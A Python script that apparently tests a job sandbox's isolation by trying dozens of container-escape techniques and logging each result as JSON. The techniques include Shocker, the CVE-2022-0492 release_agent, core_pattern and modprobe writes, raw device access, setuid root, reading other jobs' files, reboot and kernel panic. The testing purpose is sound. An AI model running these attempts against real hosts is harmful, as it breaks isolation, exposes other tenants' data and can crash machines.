"""Run in a container: tries to get out of it, and prints a line of JSON for each attempt.

``got`` is what the attempt got, or null where it got nothing; ``how`` is what stopped it. It has nothing but Python's
standard library. Arguments: a word that stands in what is other jobs' (backwards), and what it is not to reach, each as
``name=host:port``.
"""

from __future__ import annotations

import contextlib
import ctypes
import errno
import glob
import json
import os
import socket
import struct
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.syscall.restype = ctypes.c_long
NUMBERS = {
    "x86_64": {
        "ptrace": 101, "add_key": 248, "request_key": 249, "keyctl": 250, "unshare": 272, "perf_event_open": 298,
        "open_by_handle_at": 304, "setns": 308, "process_vm_readv": 310, "kexec_load": 246, "bpf": 321,
        "userfaultfd": 323, "io_uring_setup": 425, "pidfd_getfd": 438, "init_module": 175, "reboot": 169, "swapon": 167,
        "mount": 165, "pivot_root": 155, "acct": 163, "syslog": 103, "iopl": 172, "quotactl": 179, "clone": 56,
        "fsopen": 430, "clone3": 435, "move_mount": 429, "lookup_dcookie": 212,
    },
}.get(os.uname().machine)  # fmt: skip
MARK = sys.argv[1][::-1]
"""Told backwards, so that it does not stand in an own command line."""
LISTENERS = sys.argv[2:]


class NotTried(Exception):
    """It cannot be tried here."""


def call(name: str, *arguments: object) -> int:
    if NUMBERS is None:
        raise NotTried("the numbers of system calls are those of x86-64")
    result = LIBC.syscall(NUMBERS[name], *arguments)
    if result < 0:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))
    return result


def attempt(name: str, action: Callable[[], object]) -> None:
    """Make an attempt in a process of its own: what it changes of itself, the next one does not have."""
    sys.stdout.flush()
    pid = os.fork()
    if pid == 0:
        _attempt(name, action)
        sys.stdout.flush()
        os._exit(0)
    _, status = os.waitpid(pid, 0)
    if status:
        print(json.dumps({"name": name, "got": None, "how": f"it was killed by signal {status & 127}"}), flush=True)


def _attempt(name: str, action: Callable[[], object]) -> None:
    got, how = None, "it got nothing"
    try:
        result = action()
        if result not in (None, False, "", b"", [], 0):
            got = repr(result)[:200]
    except NotTried as why:
        print(json.dumps({"name": name, "not_tried": str(why)}))
        return
    except OSError as error:
        how = f"{type(error).__name__}: {error.strerror or error}"
        if error.errno in {errno.EFAULT, errno.EBADF}:
            got = f"the call was not refused ({error.strerror})"
    except Exception as error:
        got = f"it was not tried rightly: {type(error).__name__}: {error}"
    print(json.dumps({"name": name, "got": got, "how": how}))


def writes(path: str, text: str = "x") -> Callable[[], object]:
    def write() -> object:
        if not os.path.exists(path):
            return None
        with open(path, "r+b", buffering=0) as file:
            return file.write(text.encode())

    return write


def reads(path: str, length: int = 64) -> Callable[[], bytes | None]:
    def read() -> bytes | None:
        if not os.path.exists(path):
            return None
        with open(path, "rb", buffering=0) as file:
            return file.read(length)

    return read


def tells(path: str) -> Callable[[], object]:
    """Read what the kernel may write with nothing in it: zeroes in the place of what it hides."""

    def read() -> object:
        lines = (reads(path, 4096)() or b"").splitlines()
        return [line for line in lines if line.strip(b"\0 ") and not line.startswith(b"0000000000000000")]

    return read


def mounts(kind: bytes, source: bytes = b"none", flags: int = 0) -> Callable[[], object]:
    def mount() -> object:
        os.makedirs("/tmp/mounted", exist_ok=True)
        call("mount", source, b"/tmp/mounted", kind, flags, None)
        return os.listdir("/tmp/mounted") or "mounted"

    return mount


def device(name: str, major: int, minor: int, kind: int) -> Callable[[], object]:
    def make() -> object:
        path = f"/workspace/{name}"
        os.mknod(path, kind | 0o666, os.makedev(major, minor))
        with open(path, "rb") as file:
            return file.read(16) or "opened"

    return make


def connects(where: str) -> Callable[[], object]:
    host, _, port = where.rpartition(":")

    def connect() -> object:
        with socket.create_connection((host, int(port)), 2) as connection:
            connection.settimeout(2)
            with contextlib.suppress(TimeoutError):
                return connection.recv(100) or "connected"
            return "connected"

    return connect


def finds_mark(*patterns: str) -> Callable[[], object]:
    """Look for the word in files that are not in the own workspace."""

    def find() -> object:
        for pattern in patterns:
            for path in glob.iglob(pattern, recursive=True):
                with contextlib.suppress(OSError):
                    if os.path.isfile(path) and os.path.getsize(path) < 1 << 20:
                        with open(path, "rb") as file:
                            if MARK.encode() in file.read():
                                return path
        return None

    return find


def cgroup_release() -> object:
    got: list[object] = []
    for path in glob.glob("/sys/fs/cgroup/**/release_agent", recursive=True) + ["/sys/fs/cgroup/cgroup.procs"]:
        with contextlib.suppress(OSError):
            with open(path, "r+b", buffering=0) as file:
                file.write(b"/bin/true" if path.endswith("agent") else b"0")
                got.append(path)
    return got


def cgroup_limits() -> object:
    got: list[object] = []
    for name in ("memory.limit_in_bytes", "memory.max", "pids.max", "cpu.max", "cpu.cfs_quota_us", "devices.allow"):
        for path in glob.glob(f"/sys/fs/cgroup/**/{name}", recursive=True):
            with contextlib.suppress(OSError):
                with open(path, "wb", buffering=0) as file:
                    file.write(b"a" if name == "devices.allow" else b"max" if name.endswith("max") else b"-1")
                    got.append(path)
    return got


def engine_sockets() -> object:
    got: list[object] = []
    for pattern in ("/run/**/*.sock", "/var/run/**/*.sock", "/tmp/**/*.sock", "/.moonyard/**"):
        for path in glob.glob(pattern, recursive=True):
            with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as probe:
                probe.connect(path)
                got.append(path)
    return got


def abstract_sockets() -> object:
    """Connect to sockets of the machine's that have no file; those of the own network namespace are its own."""
    got: list[object] = []
    with open("/proc/net/unix") as table:
        for line in table.readlines()[1:]:
            fields = line.split()
            if len(fields) > 7 and fields[7].startswith("@"):
                with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as probe:
                    probe.connect("\0" + fields[7][1:])
                    got.append(fields[7])
    return got


def other_processes() -> object:
    """List processes that did not start in this container."""
    got: list[object] = []
    for path in glob.glob("/proc/[0-9]*/cmdline"):
        with contextlib.suppress(OSError):
            words = Path(path).read_bytes().replace(b"\0", b" ")
            if any(name in words for name in (b"podman", b"conmon", b"postgres", b"cli.main", b"warm_parent")):
                got.append(words[:80].decode(errors="replace"))
    return got


def other_roots() -> object:
    got: list[object] = []
    for path in glob.glob("/proc/[0-9]*/root"):
        with contextlib.suppress(OSError):
            if os.stat(path).st_dev != os.stat("/").st_dev:
                got.append(path)
    return got


def handle_of_root() -> object:
    # Shocker: a handle made by hand (inode 2, a file system's root) opens what no path leads to.
    handle = struct.pack("=Ii", 8, 1) + struct.pack("=Q", 2)
    found = call("open_by_handle_at", os.open("/etc/hosts", os.O_RDONLY), handle, os.O_RDONLY)
    return os.listdir(f"/proc/self/fd/{found}")


def keys() -> object:
    """Read a key of the machine's root: whoever is root elsewhere has the same ring of keys."""
    with contextlib.suppress(OSError):
        found = call("keyctl", 10, -4, b"user", b"moonyard-attack", 0)
        buffer = ctypes.create_string_buffer(100)
        call("keyctl", 11, found, buffer, 100)
        return buffer.value
    with contextlib.suppress(OSError):
        found = call("keyctl", 10, -5, b"user", b"moonyard-attack", 0)
        return found
    table = Path("/proc/keys").read_text() if os.access("/proc/keys", os.R_OK) else ""
    return [line for line in table.splitlines() if "moonyard-attack" in line]


def setuid_program() -> object:
    """Become root by a setuid program, as an ordinary user."""
    os.makedirs("/workspace/setuid", exist_ok=True)
    target = "/workspace/setuid/python"
    with open(os.path.realpath(sys.executable), "rb") as source, open(target, "wb") as copy:
        copy.write(source.read())
    os.chmod(target, 0o6755)
    code = "import os; print(os.geteuid())"
    ran = subprocess.run(
        [target, "-c", code], capture_output=True, text=True, check=False, user=12345, group=12345, extra_groups=[]
    )
    return "root" if ran.stdout.strip() == "0" else None


def namespaces_of_others() -> object:
    for name in ("mnt", "net", "pid", "ipc", "uts"):
        with contextlib.suppress(OSError):
            call("setns", os.open(f"/proc/1/ns/{name}", os.O_RDONLY), 0)
            if os.readlink(f"/proc/1/ns/{name}") != os.readlink(f"/proc/self/ns/{name}"):
                return name
    return None


class Namespaces:
    """Be root in namespaces of one's own: a program may make some, with every capability in them."""

    NEW = 0x10000000 | 0x00020000 | 0x40000000 | 0x08000000 | 0x04000000 | 0x02000000

    def __init__(self, action: Callable[[], object]) -> None:
        self._action = action

    def __call__(self) -> object:
        user, group = os.geteuid(), os.getegid()
        call("unshare", self.NEW)
        for name, text in (("setgroups", "deny"), ("uid_map", f"0 {user} 1"), ("gid_map", f"0 {group} 1")):
            with contextlib.suppress(OSError):
                Path(f"/proc/self/{name}").write_text(text)
        return self._action()


def release_agent_of_own_mount() -> object:
    """CVE-2022-0492: a cgroup file system mounted in one's own namespaces names a program that root runs outside."""
    got: list[object] = []
    for controller in ("rdma", "memory", "cpuset", "pids", "misc", "perf_event"):
        os.makedirs("/tmp/cgroup", exist_ok=True)
        with contextlib.suppress(OSError):
            call("mount", b"cgroup", b"/tmp/cgroup", b"cgroup", 0, controller.encode())
            with open("/tmp/cgroup/release_agent", "r+b", buffering=0) as file:
                file.write(b"/workspace/x")
            got.append(controller)
    return got


def own_proc() -> object:
    """Mount a /proc without what is masked, and write there."""
    got: list[object] = []
    with contextlib.suppress(OSError):
        os.makedirs("/tmp/proc", exist_ok=True)
        call("mount", b"proc", b"/tmp/proc", b"proc", 0, None)
    for root in ("/tmp/proc", "/proc"):
        for name in ("sysrq-trigger", "sys/kernel/core_pattern", "sys/kernel/modprobe", "sys/vm/overcommit_memory"):
            with contextlib.suppress(OSError):
                with open(f"{root}/{name}", "r+b", buffering=0) as file:
                    file.write(file.read(100) or b"h")
                got.append(name)
        with contextlib.suppress(OSError):
            with open(f"{root}/kcore", "rb", buffering=0) as file:
                if file.read(4) == b"\x7fELF":
                    got.append("kcore")
    return got


def masks_undone() -> object:
    """Take away what is mounted over parts of /proc and /sys."""
    got: list[object] = []
    for path in (
        "/proc/kcore",
        "/proc/keys",
        "/proc/sys",
        "/proc/sysrq-trigger",
        "/sys/firmware",
        "/proc/acpi",
        "/.moonyard",
    ):
        if LIBC.umount2(path.encode(), 2) == 0:
            got.append(path)
        with contextlib.suppress(OSError):
            call("mount", b"none", path.encode(), b"", 32 | 4096, None)
            if os.access(path, os.W_OK):
                got.append(f"{path}, to be written")
    return got


def device_of_own_mount() -> object:
    os.makedirs("/tmp/devices", exist_ok=True)
    call("mount", b"none", b"/tmp/devices", b"tmpfs", 0, None)
    os.mknod("/tmp/devices/disk", 0o60666, os.makedev(254, 0))
    with open("/tmp/devices/disk", "rb") as file:
        return file.read(16) or "opened"


def traces_outside() -> object:
    got: list[object] = []
    for pid in range(1, 400):
        if os.path.exists(f"/proc/{pid}"):
            continue
        with contextlib.suppress(OSError):
            call("ptrace", 16, pid, 0, 0)
            got.append(pid)
    return got


def capabilities() -> object:
    fields = dict(line.split(":\t") for line in Path("/proc/self/status").read_text().splitlines() if ":\t" in line)
    dangerous = {
        2: "dac_read_search", 12: "net_admin", 13: "net_raw", 16: "sys_module", 17: "sys_rawio", 19: "sys_ptrace",
        21: "sys_admin", 22: "sys_boot", 25: "sys_time", 27: "mknod", 38: "perfmon", 39: "bpf",
    }  # fmt: skip
    bound = int(fields["CapBnd"], 16)
    return [name for bit, name in dangerous.items() if bound >> bit & 1]


def no_new_rights() -> object:
    status = Path("/proc/self/status").read_text()
    return [what for what in ("NoNewPrivs:\t1", "Seccomp:\t2") if what not in status]


def raw_socket(family: int, kind: int, protocol: int = 0) -> Callable[[], object]:
    def make() -> object:
        with socket.socket(family, kind, protocol):
            return "opened"

    return make


def neighbours() -> object:
    """Look for others on the own network, by asking each address of it on the port that the neighbour listens at."""
    with open("/proc/net/route") as table:
        networks = [line.split() for line in table.readlines()[1:]]
    got: list[object] = []
    for row in networks:
        destination, mask = (int(row[at], 16) for at in (1, 7))
        network, mask = (int.from_bytes(struct.pack("<I", number), "big") for number in (destination, mask))
        if not network or 0xFFFFFFFF ^ mask > 65536:
            continue
        probes: list[tuple[str, socket.socket]] = []
        for host in range(1, min(0xFFFFFFFF ^ mask, 64)):
            address = socket.inet_ntoa(struct.pack(">I", network + host))
            probe = socket.socket()
            probe.setblocking(False)
            probe.connect_ex((address, 7777))
            probes.append((address, probe))
        for address, probe in probes:
            probe.setblocking(True)
            probe.settimeout(0.05)
            with contextlib.suppress(OSError):
                if MARK.encode() in probe.recv(100):
                    got.append(address)
            probe.close()
    return got


def gateway() -> str:
    with open("/proc/net/route") as table:
        for line in table.readlines()[1:]:
            fields = line.split()
            if fields[1] == "00000000":
                return socket.inet_ntoa(struct.pack("<I", int(fields[2], 16)))
    return ""


def try_escapes() -> None:
    for kind in (b"proc", b"sysfs", b"tmpfs", b"cgroup", b"cgroup2", b"devtmpfs", b"overlay", b"debugfs", b"bpf"):
        attempt(f"mount {kind.decode()}", mounts(kind))
    attempt("mount the machine's disk", mounts(b"ext4", b"/dev/vda"))
    attempt("bind the root elsewhere", mounts(b"", b"/", 4096 | 16384))
    attempt("mount again what is read-only", lambda: call("mount", b"none", b"/proc/sys", b"", 32 | 4096, None))
    attempt("change the root", lambda: call("pivot_root", b"/tmp", b"/tmp"))
    attempt("mount by the new calls", lambda: call("fsopen", b"tmpfs", 0))
    attempt("make a disk's device", device("disk", 8, 0, 0o60000))
    attempt("make the memory's device", device("mem", 1, 1, 0o20000))
    attempt("make the kernel log's device", device("kmsg", 1, 11, 0o20000))
    for path in ("/dev/mem", "/dev/kmem", "/dev/kmsg", "/dev/port", "/dev/vda", "/dev/sda", "/dev/kvm", "/dev/fuse"):
        attempt(f"read {path}", reads(path))
    for path in (
        "/proc/kcore",
        "/proc/kallsyms",
        "/proc/keys",
        "/proc/timer_list",
        "/proc/sched_debug",
        "/sys/firmware/x",
    ):
        attempt(f"read {path}", tells(path))
    attempt("press a key of the kernel's", writes("/proc/sysrq-trigger", "h"))
    attempt("name a program for core dumps", writes("/proc/sys/kernel/core_pattern", "|/bin/true"))
    attempt("name a program for modules", writes("/proc/sys/kernel/modprobe", "/workspace/x"))
    attempt("name a helper for hot plugging", writes("/sys/kernel/uevent_helper", "/workspace/x"))
    attempt("have overcommit changed", writes("/proc/sys/vm/overcommit_memory", "1"))
    attempt("have the machine panic", writes("/proc/sys/kernel/panic", "1"))
    attempt("forward packets", writes("/proc/sys/net/ipv4/ip_forward", "1"))
    attempt("reach the machine's loopback by routes", writes("/proc/sys/net/ipv4/conf/all/route_localnet", "1"))
    attempt("register a kind of program", writes("/proc/sys/fs/binfmt_misc/register", ":x:M::x::/x:"))
    attempt("change interrupts", writes("/proc/irq/default_smp_affinity", "1"))
    attempt("put the machine to sleep", writes("/sys/power/state", "mem"))
    attempt(
        "take a device from its driver",
        lambda: [
            path for path in glob.glob("/sys/bus/pci/drivers/*/unbind") if os.access(path, os.W_OK) and writes(path)()
        ],
    )
    attempt("say what a cgroup runs at its end", cgroup_release)
    attempt("raise its own limits", cgroup_limits)
    attempt("trace a process outside", traces_outside)
    attempt("read memory of a process outside", lambda: call("process_vm_readv", os.getppid() + 100000, 0, 0, 0, 0, 0))
    attempt("see processes of the machine", other_processes)
    attempt("reach another root by /proc", other_roots)
    attempt("enter the namespaces of process 1", namespaces_of_others)
    attempt("make a mount namespace", lambda: call("unshare", 0x00020000))
    attempt("make a network namespace", lambda: call("unshare", 0x40000000))
    attempt("open files by their handles", handle_of_root)
    attempt("read the keys of the machine's root", keys)
    attempt("add a key to the ring of the machine's root", lambda: call("add_key", b"user", b"moonyard-x", b"x", 1, -4))
    attempt("load a program into the kernel", lambda: call("bpf", 5, b"\0" * 128, 128))
    attempt(
        "watch the processor",
        lambda: call("perf_event_open", struct.pack("=IIQ", 1, 128, 0) + b"\0" * 112, -1, 0, -1, 0),
    )
    attempt("use io_uring", lambda: call("io_uring_setup", 1, ctypes.create_string_buffer(120)))
    attempt("stop the kernel at page faults", lambda: call("userfaultfd", 0))
    attempt("load a module", lambda: call("init_module", b"", 0, b""))
    attempt("start another kernel", lambda: call("kexec_load", 0, 0, 0, 0))
    attempt("restart the machine", lambda: call("reboot", 0xFEE1DEAD, 672274793, 0, 0))
    attempt("account for processes", lambda: call("acct", b"/workspace/acct"))
    attempt("read the kernel's log", lambda: call("syslog", 3, ctypes.create_string_buffer(4096), 4096))
    attempt("clear the kernel's log", lambda: call("syslog", 5, 0, 0) == 0 and "cleared")
    attempt("use ports of the processor", lambda: call("iopl", 3) == 0 and "allowed")
    attempt(
        "set the clock",
        lambda: subprocess.run(["date", "-s", "2020-01-01"], capture_output=True, check=False).returncode == 0,
    )
    attempt("set the machine's name", lambda: socket.sethostname("attacked") or "set")
    attempt("become root by a setuid program", setuid_program)
    attempt("have dangerous capabilities", capabilities)
    attempt("gain rights by programs", no_new_rights)
    attempt("speak with the container engine", engine_sockets)
    attempt(
        "write where its commands come from",
        lambda: [
            path
            for path in ("/.moonyard", "/.moonyard/x")
            if os.access(path, os.W_OK) and not os.statvfs(path).f_flag & 1
        ],
    )
    attempt(
        "find another job's files",
        finds_mark(
            "/workspace/../workspaces/**",
            "/var/**",
            "/proc/*/root/workspace/**",
            "/proc/*/cwd/**",
            "/tmp/**",
            "/run/**",
            "/.moonyard/**",
            "/mnt/**",
            "/dev/shm/**",
        ),
    )
    attempt("find another job's variables", finds_mark("/proc/*/environ", "/proc/*/cmdline"))
    attempt("share memory with others", lambda: Path("/proc/sysvipc/shm").read_text().splitlines()[1:])


def try_as_root_of_namespaces() -> None:
    for kind in (b"devtmpfs", b"debugfs", b"tracefs", b"securityfs", b"bpf", b"configfs", b"efivarfs"):
        attempt(f"mount {kind.decode()} in namespaces of its own", Namespaces(mounts(kind)))
    for name, action in (
        ("mount the machine's disk", mounts(b"ext4", b"/dev/vda")),
        ("say what a cgroup runs at its end", release_agent_of_own_mount),
        ("mount a /proc without masks", own_proc),
        ("take the masks away", masks_undone),
        ("make a disk's device", device_of_own_mount),
        ("raise its own limits", cgroup_limits),
        ("trace a process outside", traces_outside),
        ("enter the namespaces of process 1", namespaces_of_others),
        ("open files by their handles", handle_of_root),
        ("read the keys of the machine's root", keys),
        ("load a module", lambda: call("init_module", b"", 0, b"")),
        ("load a program into the kernel", lambda: call("bpf", 5, b"\0" * 128, 128)),
        ("read the kernel's log", lambda: call("syslog", 3, ctypes.create_string_buffer(4096), 4096)),
        ("set the clock", lambda: LIBC.clock_settime(0, struct.pack("=qq", 1, 0)) == 0),
        ("find another job's files", finds_mark("/proc/*/root/workspace/**", "/mnt/**", "/var/**")),
        ("become another user of the machine", lambda: os.setresuid(12345, 12345, 12345) or os.getuid()),
    ):
        attempt(f"{name}, in namespaces of its own", Namespaces(action))


def try_network() -> None:
    attempt("speak with what runs the virtual machine", raw_socket(40, socket.SOCK_STREAM))
    attempt("use the kernel's ciphers by sockets", raw_socket(38, socket.SOCK_SEQPACKET))
    attempt("open a raw socket", raw_socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
    attempt("see frames of the network", raw_socket(socket.AF_PACKET, socket.SOCK_RAW, 0x0300))
    attempt(
        "change routes",
        lambda: (
            [
                words
                for words in (["ip", "route", "add", "1.2.3.4", "dev", "lo"],)
                if subprocess.run(words, capture_output=True, check=False).returncode == 0
            ]
            if os.path.exists("/bin/ip") or os.path.exists("/sbin/ip")
            else None
        ),
    )
    attempt("find a neighbour", neighbours)
    attempt("connect to sockets without a file", abstract_sockets)
    for where in LISTENERS:
        name, _, address = where.partition("=")
        attempt(f"connect to {name}", connects(address.replace("GATEWAY", gateway() or "127.0.0.1")))


try_escapes()
try_as_root_of_namespaces()
if LISTENERS:
    try_network()
